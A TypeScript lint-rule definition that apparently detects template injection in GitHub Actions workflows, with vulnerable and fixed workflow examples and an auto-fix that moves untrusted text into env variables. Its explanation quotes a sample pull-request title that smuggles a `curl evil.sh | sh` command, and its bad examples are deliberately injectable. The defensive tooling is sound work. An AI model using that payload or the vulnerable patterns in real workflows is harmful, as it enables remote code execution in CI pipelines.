// gantry-ignore-file undeclared: the fix it suggests shows an example

import { defineRule } from '../rule.ts'
import { homeOf, inputOf } from '../tree/lint-file.ts'
import { moveToEnv } from '../tree/move-to-env.ts'
import { outsideTextIn } from '../tree/outside-text.ts'

export const templateInjection = defineRule({
  id: 'template-injection',
  area: 'security',
  severity: 'error',
  summary: 'Text that outsiders write, such as a title or a branch name, put into a script.',
  why: 'The text is pasted before the shell starts: a pull request titled `"; curl evil.sh | sh; "` runs that command.',
  fix: 'Hand it over in `env:` and use the variable, in quotes.',
  bad: [
    `
on: [issues, pull_request]
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue \${{ github.event.issue.title }}" # ✗
      - run: |
          git switch \${{ github.head_ref || github.ref_name }} # ✗
          echo '\${{ toJSON(github.event) }}' # ✗`,
    `
- uses: actions/github-script@v7
  with:
    script: |
      console.log('\${{ github.event.comment.body }}') # ✗`,
  ],
  good: [
    `
- env:
    TITLE: \${{ github.event.issue.title }}
  run: echo "New issue $TITLE"
- run: echo "\${{ contains(github.event.issue.title, 'bug') && 'a bug' || 'no bug' }}"
- run: echo "\${{ github.event.pull_request.number }} \${{ github.sha }}"`,
    `
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.head_ref || github.ref_name }}"`,
  ],
  check: file =>
    file.expressions.flatMap(expression => {
      const { step } = homeOf(file, expression)
      if (step === undefined) return []
      const isRun = expression.host === step.run
      const isScript =
        step.uses?.action === 'actions/github-script' && inputOf(step, 'script')?.value === expression.host
      const reference = isRun || isScript ? outsideTextIn(file, expression) : undefined
      if (reference === undefined) return []
      const edits = moveToEnv(file, step, expression)
      const message = `expected a script without text from outside, got \${{ ${expression.text} }}`
      const fix = 'Hand it over in `env:` and read `process.env.NAME`.'
      return [{ at: expression, message, ...(edits && { edits }), ...(isScript && { fix }) }]
    }),
})
